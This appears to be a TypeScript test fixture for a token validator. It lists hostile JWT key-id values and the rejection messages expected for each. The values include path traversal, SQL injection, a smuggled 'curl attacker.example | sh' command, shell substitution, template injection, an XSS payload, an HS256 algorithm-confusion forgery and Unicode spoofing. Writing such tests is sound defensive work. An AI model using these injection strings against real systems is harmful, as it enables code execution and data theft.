import { hmac } from '#test/support/hostile-tokens.ts';
import { type Row, rows } from '../row.ts';
import { access, accessClaims, attacker, production, staging } from '../world.ts';

const named = (kid: unknown) => attacker.sign(accessClaims, { kid });
const own = production.access.kid;

/** Key ids that somebody could open, look up or run; the pool's own is compared letter for letter and nothing else is done with it. */
export const keyId: readonly Row[] = [
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “../../../../../../dev/null” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is a path to nothing', named('../../../../../../dev/null')],
  ),
  ...rows(
    { algorithm: 'ALGORITHM_SHARED_SECRET', key: 'KEY_UNKNOWN' },
    'ALGORITHM_SHARED_SECRET',
    'The token is signed with a password (alg “HS256”) instead of the pool’s key (RS256): it is a forgery, or another system made it; get one by signing in.',
    [
      'kid is a path to nothing, and HMAC with nothing',
      hmac('', { alg: 'HS256', kid: '../../../../dev/null' }, accessClaims),
    ],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “..\\..\\..\\Windows\\win.ini” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is a path of Windows', named('..\\..\\..\\Windows\\win.ini')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “../keys/prod-access-key” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is a path with the pool’s key id at its end', named(`../keys/${own}`)],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    "No pool that Lifeguard knows has the key “x' UNION SELECT 'secret' --” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.",
    ['kid is SQL', named("x' UNION SELECT 'secret' --")],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    "No pool that Lifeguard knows has the key “prod-access-key'; DROP TABLE keys; --” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.",
    ['kid is SQL that drops a table', named(`${own}'; DROP TABLE keys; --`)],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “https://attacker.example/keys.json” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is a URL', named('https://attacker.example/keys.json')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “key.pem; curl attacker.example | sh” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is a command', named('key.pem; curl attacker.example | sh')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “`id`$(id)|id” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is a command in backticks', named('`id`$(id)|id')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “{{7*7}}#{7*7}<%= 7*7 %>” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is a template', named('{{7*7}}#{7*7}<%= 7*7 %>')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “<img src=x onerror=alert(1)>” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is HTML', named('<img src=x onerror=alert(1)>')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “⟨U+202E⟩yek-ssecca-dorp” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid with bidi controls', named('\u202eyek-ssecca-dorp')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “␛[2J␛[31mprod” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid with ANSI escapes', named('\u001b[2J\u001b[31mprod')],
  ),
  ...rows(
    { key: 'KEY_NOT_NAMED' },
    'KEY_NOT_NAMED',
    'The access token does not say which key signed it (kid): Cognito always says it, so another program made this; get one from “acme-production” by signing in.',
    ['kid is empty', named('')],
    ['kid is missing', access({}, { kid: undefined })],
    ['kid is missing, by a stranger', named(undefined)],
  ),
  ...rows(
    { key: 'KEY_NOT_NAMED' },
    'KEY_NOT_NAMED',
    'The access token names the key that signed it (kid) in a form that no token of Cognito has, “null”, so another program made this; get one from “acme-production” by signing in.',
    ['kid is null', named(null)],
  ),
  ...rows(
    { key: 'KEY_NOT_NAMED' },
    'KEY_NOT_NAMED',
    'The access token names the key that signed it (kid) in a form that no token of Cognito has, “1”, so another program made this; get one from “acme-production” by signing in.',
    ['kid is a number', named(1)],
  ),
  ...rows(
    { key: 'KEY_NOT_NAMED' },
    'KEY_NOT_NAMED',
    'The access token names the key that signed it (kid) in a form that no token of Cognito has, “true”, so another program made this; get one from “acme-production” by signing in.',
    ['kid is true', named(true)],
  ),
  ...rows(
    { key: 'KEY_NOT_NAMED' },
    'KEY_NOT_NAMED',
    "The access token names the key that signed it (kid) in a form that no token of Cognito has, “['prod-access-key']”, so another program made this; get one from “acme-production” by signing in.",
    ['kid is a list with the pool’s key id', access({}, { kid: [own] })],
  ),
  ...rows(
    { key: 'KEY_NOT_NAMED' },
    'KEY_NOT_NAMED',
    "The access token names the key that signed it (kid) in a form that no token of Cognito has, “{'toString':'prod-access-key'}”, so another program made this; get one from “acme-production” by signing in.",
    ['kid is an object that says it is the pool’s', access({}, { kid: { toString: own } })],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “   ” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is white space', named('   ')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk…” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is 64 KB long', named('k'.repeat(65_536))],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “__proto__” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is __proto__', named('__proto__')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “constructor” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is constructor', named('constructor')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “toString” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is toString', named('toString')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “hasOwnProperty” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid is hasOwnProperty', named('hasOwnProperty')],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “PROD-ACCESS-KEY” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid in other letter case', access({}, { kid: own.toUpperCase() })],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “prod-access-key ” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid with a space behind', access({}, { kid: `${own} ` })],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “prod-access-key␀” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid with NUL behind', access({}, { kid: `${own}\0` })],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “prod-access-key⟨U+200B⟩” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid with a zero-width space behind', access({}, { kid: `${own}\u200b` })],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “prod-аccess-key” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid with a Cyrillic letter', access({}, { kid: own.replace('a', 'а') })],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “prod-access-ke” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid cut by one letter', access({}, { kid: own.slice(0, -1) })],
  ),
  ...rows(
    { signature: 'SIGNATURE_WRONG' },
    'SIGNATURE_WRONG',
    'The signature does not fit the pool’s key “prod-id-key”: the access token was changed after it was signed, or copied with a mistake; copy it again, or get one from “acme-production” by signing in.',
    ['kid of the pool’s other key', access({}, { kid: production.id.kid })],
  ),
  ...rows(
    { signature: 'SIGNATURE_WRONG' },
    'SIGNATURE_WRONG',
    'The signature does not fit the pool’s key “prod-access-key”: the access token was changed after it was signed, or copied with a mistake; copy it again, or get one from “acme-production” by signing in.',
    ['kid of the pool, signed by a stranger', named(own)],
    ['kid of our pool, signed by another connection’s key', staging.access.sign(accessClaims, { kid: own })],
  ),
  ...rows(
    { key: 'KEY_OF_OTHER_CONNECTION', signature: 'SIGNATURE_WRONG' },
    'KEY_OF_OTHER_CONNECTION',
    'The access token says that “acme-production” issued it, but names a key of “Staging”: no pool does that, so it was put together by hand; get one from “acme-production” by signing in.',
    ['kid of another connection, signed by our pool', access({}, { kid: staging.access.kid })],
    ['kid of another connection, signed by a stranger', named(staging.access.kid)],
  ),
  ...rows(
    { key: 'KEY_OF_OTHER_CONNECTION' },
    'KEY_OF_OTHER_CONNECTION',
    'The access token says that “acme-production” issued it, but names a key of “Staging”: no pool does that, so it was put together by hand; get one from “acme-production” by signing in.',
    ['kid of another connection, signed by it, our issuer', staging.access.sign(accessClaims)],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    'No pool that Lifeguard knows has the key “rotated-away” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
    ['kid that nobody knows, signed by our pool', access({}, { kid: 'rotated-away' })],
  ),
];
